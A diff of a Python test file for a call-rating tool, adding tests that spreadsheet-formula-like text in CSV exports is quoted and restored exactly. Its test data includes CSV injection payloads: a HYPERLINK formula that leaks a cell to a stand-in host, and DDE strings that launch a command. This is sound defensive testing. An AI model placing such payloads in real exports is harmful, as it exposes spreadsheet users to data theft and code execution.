@@ -1,9 +1,14 @@
 """What ``rating400 rate`` writes for people and programs beside the
 charges: an input column named like an output column is refused with
 ``--pass-through`` (never replaced or dropped silently), naming the file
-and the columns (README "Pass-through columns")."""
+and the columns (README "Pass-through columns"); a text cell that starts
+like a spreadsheet formula is quoted in every CSV, numbers are not, and
+the readers of a rated CSV get the text as given (README "Formulas in CSV
+output")."""
 from __future__ import annotations
 
+import csv
+import json
 import re
 from pathlib import Path
 
@@ -12,11 +17,13 @@ import pyarrow.csv as pacsv
 import pyarrow.parquet as pq
 import pytest
 
-from rating_core import bulk
+from rating_core import bulk, cdr
 from rating_core.cdr import InvalidFile
 from rating_core.cli import main
 from rating_core.rater import RATED_COLUMNS, Rater
 from rating_core.store import Store
+
+from test_rerate import PAYG, root  # noqa: F401 - the fixture: version 1 with calls committed, version 2 dearer
 
 ROOT = Path(__file__).resolve().parents[1]
 
@@ -43,7 +50,9 @@ def calls(demo):
 
 def with_columns(t: pa.Table, **columns) -> pa.Table:
     for name, values in columns.items():
-        t = t.append_column(name, pa.array(values if isinstance(values, list) else [values] * t.num_rows))
+        if not isinstance(values, pa.Array):
+            values = pa.array(values if isinstance(values, list) else [values] * t.num_rows)
+        t = t.append_column(name, values)
     return t
 
 
@@ -106,3 +115,106 @@ def test_the_bulk_api_refuses_too(demo, calls, tmp_path):
         bulk.rate_dataset([src], rater, rater.opening_state(), tmp_path / "o.csv", tmp_path / "r.csv",
                           pass_through=True)
     assert not (tmp_path / "o.csv").exists()
+
+
+# --- 2. formulas in CSV output ---------------------------------------------------------------
+LINK = '=HYPERLINK("http://x.example/?"&A2,"details")'
+NOTES = [LINK, "-5", "@SUM(A1)", "'=x", "+1", "-12.50", "\tTAB", "plain"]
+QUOTED = ["'" + LINK, "-5", "'@SUM(A1)", "''=x", "+1", "-12.50", "'\tTAB", "plain"]
+
+
+def csv_rows(path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+@pytest.fixture(scope="module")
+def formulas(demo, calls, tmp_path_factory):
+    """The demo's calls with call ids and a pass-through note starting like
+    formulas, an int64 column of -5, a caller ``@SUM(...)`` (a reject),
+    rated to CSV and Parquet, lean and --pass-through."""
+    d = tmp_path_factory.mktemp("formulas")
+    n = len(NOTES)
+    t = calls.slice(0, n + 1)
+    ids = ["=1+1", "-7", *t.column("call_id").to_pylist()[2:]]
+    t = t.set_column(0, "call_id", pa.array(ids))
+    callers = t.column("caller").to_pylist()
+    callers[n] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    t = t.set_column(1, "caller", pa.array(callers))
+    t = with_columns(t, note=[*NOTES, "x"], adjust_minor=pa.array([-5] * (n + 1), pa.int64()))
+    src = d / "cdrs.parquet"
+    pq.write_table(t, src)
+    out = {"cdrs": t, "src": src}
+    for name in ("full.csv", "full.parquet", "lean.csv"):
+        code = subprocess_rate(demo, src, d / name, "--pass-through" if name.startswith("full") else None)
+        assert code == 0
+        out[name] = d / name
+    out["rejects"] = d / "full.rejects.csv"
+    return out
+
+
+def subprocess_rate(demo, src, out, *more):
+    try:
+        main(["rate", str(src), "--store", str(demo / "store"), "--out", str(out), *[m for m in more if m]])
+    except SystemExit as e:
+        return e.code
+    return 0
+
+
+def test_the_rated_csv_quotes_formula_cells_and_keeps_numbers(formulas):
+    rows = {r["row"]: r for r in csv_rows(formulas["full.csv"])}
+    n = len(NOTES)
+    assert sorted(rows, key=int) == [str(i) for i in range(1, n + 1)]  # the last row is the caller's reject
+    assert [rows[str(i + 1)]["note"] for i in range(n)] == QUOTED
+    assert rows["1"]["call_id"] == "'=1+1" and rows["2"]["call_id"] == "-7"  # -7 is a number, not a formula
+    assert {r["adjust_minor"] for r in rows.values()} == {"-5"}  # an int64 column: a number, never quoted
+    assert all(not r["charge_minor"].startswith("'") for r in rows.values())
+    lean = {r["row"]: r for r in csv_rows(formulas["lean.csv"])}
+    assert lean["1"]["call_id"] == "'=1+1" and "note" not in lean["1"]
+    # Parquet holds the text as given.
+    t = pq.read_table(formulas["full.parquet"]).sort_by("row")
+    assert t.column("note").to_pylist() == NOTES and t.column("call_id").to_pylist()[0] == "=1+1"
+    assert t.column("adjust_minor").type == pa.int64()
+
+
+def test_the_rejects_csv_quotes_the_caller(formulas):
+    (reject,) = csv_rows(formulas["rejects"])
+    assert reject["field"] == "caller" and reject["value"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_readers_of_a_rated_csv_get_the_text_as_given(demo, formulas, capsys, tmp_path):
+    """``cdr.read_rated`` (bill, advise, explain, report, crm) undoes the
+    quote: the same table as from the Parquet file, text for text."""
+    a = cdr.read_rated(formulas["full.csv"]).sort_by("row")
+    b = cdr.read_rated(formulas["full.parquet"]).sort_by("row")
+    for name in ("call_id", "note", "caller", "account", "file"):
+        assert a.column(name).to_pylist() == b.column(name).to_pylist(), name
+    assert a.column("charge_minor").to_pylist() == b.column("charge_minor").to_pylist()
+    code, out, err = cli(capsys, "explain", "=1+1", "--store", demo / "store", "--rated", formulas["full.csv"],
+                         "--json")
+    assert code == 0, err
+    assert json.loads(out)["call_id"] == "=1+1"
+    for path in (formulas["full.csv"], formulas["full.parquet"]):
+        code, _, err = cli(capsys, "report", path, "--by", "number", "--out", tmp_path / f"{path.suffix}.json")
+        assert code == 0, err
+    assert (tmp_path / ".csv.json").read_text() == (tmp_path / ".parquet.json").read_text()
+
+
+def test_the_cell_rule_is_undone_exactly():
+    from rating_core import cells
+
+    values = [*NOTES, "''=x", "'abc", "'-5", "-", "", None, "=", "\r1", "1e5", "+86 10 1234"]
+    quoted = cells.column(pa.array(values, pa.string()))
+    assert quoted.to_pylist() == [cells.cell(v) for v in values]
+    assert cells.original(quoted).to_pylist() == values
+    assert cells.column(pa.array(["a", "-5"])).to_pylist() == ["a", "-5"]
+
+
+def test_the_rerating_adjustments_csv_quotes_a_formula_reason(root, tmp_path, capsys):  # noqa: F811
+    out = tmp_path / "adj.csv"
+    code, _, err = cli(capsys, "rerate", "--store", root, "--version", "2", "--from", "2026-10-01", "--to",
+                       "2026-10-31", "--number", PAYG, "--dry-run", "--reason", "=cmd|' /C calc'!A0", "--out", out)
+    assert code == 0, err
+    rows = csv_rows(out)
+    assert rows and {r["reason"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert all(int(r["delta_minor"]) > 0 for r in rows)
